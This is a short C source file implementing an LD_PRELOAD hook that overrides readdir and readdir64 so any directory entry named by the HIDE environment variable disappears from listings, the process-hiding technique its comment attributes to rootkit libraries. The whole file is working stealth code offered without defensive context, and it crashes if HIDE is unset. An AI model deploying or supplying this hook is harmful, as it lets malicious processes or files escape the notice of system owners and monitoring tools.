/* Leaves one process out of what readdir(3) tells, as libraries do that hide processes. HIDE names it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

struct dirent *readdir(DIR *dir) {
  static struct dirent *(*next)(DIR *);
  if (!next) next = dlsym(RTLD_NEXT, "readdir");
  struct dirent *entry;
  do entry = next(dir);
  while (entry && !strcmp(entry->d_name, getenv("HIDE")));
  return entry;
}

struct dirent64 *readdir64(DIR *dir) {
  static struct dirent64 *(*next)(DIR *);
  if (!next) next = dlsym(RTLD_NEXT, "readdir64");
  struct dirent64 *entry;
  do entry = next(dir);
  while (entry && !strcmp(entry->d_name, getenv("HIDE")));
  return entry;
}
